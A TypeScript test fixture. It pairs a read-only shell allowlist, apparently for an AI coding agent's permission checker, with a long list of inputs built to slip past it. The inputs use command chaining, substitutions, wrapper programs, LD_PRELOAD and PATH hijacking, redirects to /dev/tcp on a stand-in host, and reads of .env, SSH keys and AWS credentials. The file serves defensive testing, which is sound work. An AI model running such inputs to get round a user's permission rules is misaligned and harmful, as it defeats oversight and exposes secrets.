/** What a user allows who only wants to look around. */
export const lookingAround: { readonly allow: string[] } = { allow: ["Bash(ls *)", "Bash(echo *)", "Bash(cat *)", "Bash(git status *)"] };

const tick = "`";

/** Each hides a command, or an effect, that {@link lookingAround} does not permit. */
export const attacks: readonly string[] = [
  // Lists, pipes, lines.
  ...["ls; evil", "ls && evil", "ls || evil", "ls | evil", "ls |& evil", "ls & evil", "ls\nevil", "ls\n\n\tevil", "ls;evil"],
  ...["echo a;#\nevil", "ls # a\nevil", "ls \\\n; evil", "ls;\\\nevil", "! evil", "ls&&evil", "ls\r\nevil", "ls\r;evil"],
  // Substitutions, wherever they may stand.
  ...["ls $(evil)", `ls ${tick}evil${tick}`, 'echo "$(evil)"', "echo ${x:-$(evil)}", "echo $((a[$(evil)]))", "echo $[$(evil)]"],
  ...[`echo "${tick}evil${tick}"`, "echo ${x:+$(evil)}", "echo ${x/a/$(evil)}", "echo ${x#$(evil)}", "echo ${x:$(evil)}"],
  ...["echo ${a[$(evil)]}", "cat <(evil)", "echo >(evil)", "ls {a,$(evil)}", 'echo "a${x:-"$(evil)"}b"', "echo $(echo $(evil))"],
  ...[`echo ${tick}echo \\${tick}evil\\${tick}${tick}`, 'echo $"$(evil)"', "echo ${x@P}", "echo ${!x}", "echo ${ evil; }", "echo ${| evil; }"],
  ...["echo $(<(evil))", "echo @($(evil))", 'cat <<< "$(evil)"', "cat <<< $(evil)", "$(echo evil)", "${x:-evil}", "$x", '"$@"'],
  // Here-documents.
  ...["cat <<EOF\n$(evil)\nEOF", `cat <<EOF\n${tick}evil${tick}\nEOF`, "cat <<E'O'F\nEOF\nevil", "cat <<-EOF\n\tEOF\nevil", "cat <<EOF\nabc"],
  ...["cat <<A <<B\nA\n$(evil)\nB", "cat <<'EOF'\nEOF\nevil\nEOF", "cat <<EOF; evil\nEOF", 'cat <<"a b"\na b\nevil', "cat <<\\EOF\nEOF\nevil"],
  // Spellings of a name.
  ...['e""vil', "e\\vil", "'e'vil", "$'\\x65vil'", "e\\\nvil", "$'\\145vil'", "/bin/../bin/evil", "./ls", "bin/ls", "ls\\ -la", '"ls -la"'],
  ...["'ls *'", "LS", "l?", "{evil,x}", "{ls,x}", "~/ls", "git", "git push", "git 'status x'", "git\tpush", "git -c a=b status", "git statusx"],
  // Programs that run others.
  ...["env evil", "env -i evil", "command evil", "exec evil", "sudo evil", "nohup evil", "timeout 5 evil", "nice evil", "setsid evil"],
  ...["stdbuf -o0 evil", "watch evil", "xargs evil", "ls | xargs evil", "busybox evil", "find . -exec evil {} +", "builtin eval evil"],
  ...['eval "evil"', 'sh -c "evil"', "bash -c 'evil'", "bash -ic evil", ". ./x", "source x", 'trap "evil" EXIT', "alias ls=evil; ls", "hash -p /x ls; ls"],
  ...["enable -f ./x ls; ls", "python3 -c 'evil'", "node -e 'evil'", "perl -e evil", "awk 'BEGIN { system(\"evil\") }'", "time evil", "coproc evil"],
  // Redirections.
  ...["ls > x", "ls >> x", "ls &> x", "ls &>> x", "ls >| x", "ls 3<> x", "> x", "ls 2>/dev/tcp/192.0.2.1/80", "cat < /etc/passwd", "ls >& x"],
  ...["ls > ~/.bashrc", 'ls > "$x"', "ls {fd}> x", "cat < /dev/tcp/192.0.2.1/80", "ls > $(evil)", "ls 2> /etc/x", "{ ls; } > x", "(ls) > x", "ls 1>x"],
  // Assignments.
  ...["LD_PRELOAD=./x.so ls", "PATH=.:$PATH ls", 'GIT_SSH_COMMAND="evil" git status', "export PATH=.; ls", "printf -v PATH .; ls", "x=evil; $x"],
  ...["PATH=.\nls", "a=(1); ls", "x+=1 ls", "PAGER=evil git status", "declare PATH=.; ls", "read PATH; ls", "unset PATH; ls", "echo ${PATH:=.}", "IFS=x ls"],
  ...["for PATH in .; do ls; done", "for LD_PRELOAD in x; do ls; done", "a[$(evil)]=1", "let a=1; ls", "((a=1)); ls", "[[ $x -gt 1 ]]", "[[ -v a[$(evil)] ]]"],
  // Compound commands.
  ...["(evil)", "{ evil; }", "if true; then evil; fi", "if evil; then ls; fi", "for i in 1; do evil; done", "while evil; do ls; done", "until evil; do ls; done"],
  ...["case a in a) evil;; esac", "case $(evil) in a) ls;; esac", "evil(){ ls; }", "f(){ evil; }; f", "function ls { evil; }; ls", "ls(){ evil; }; ls"],
  ...["select x in 1; do ls; done", "for ((i=0;i<1;i++)); do ls; done", "[[ $(evil) ]]", "[[ -f $(evil) ]]", "((a[$(evil)]))", "for i in $(evil); do ls; done"],
  // What does not parse, or is nothing.
  ...['echo "a', "echo $(", "ls )", "if true", "ls; fi", "echo 'a", "echo `", "{ ls", "case a in", "", "   ", "# ls", "\n"],
  // Very much, and very deep.
  ...[`${": ; ".repeat(60)}evil`, `${"ls; ".repeat(600)}evil`, `${"$(".repeat(400)}evil${")".repeat(400)}`, `echo ${"a".repeat(70_000)}`],
  // Files with credentials.
  ...["cat .env", "cat ./.env", "cat src/../.env", "cat ~/.ssh/id_rsa", "cat .git/config", "cat ~/.aws/credentials", "cat --file=.env", "cat -- .env.local"],
  ...["cat '.env'", "cat .e\\nv", "cat README .npmrc", "git status .env", "echo a:.env", "cat $'\\x2eenv'", "cat < .env", "cat key.pem", "ls -f.env"],
  // NUL and other bytes a shell reads in its own way.
  ...["ls \0evil", "ls\0;evil", "ls\u00a0; evil"],
];
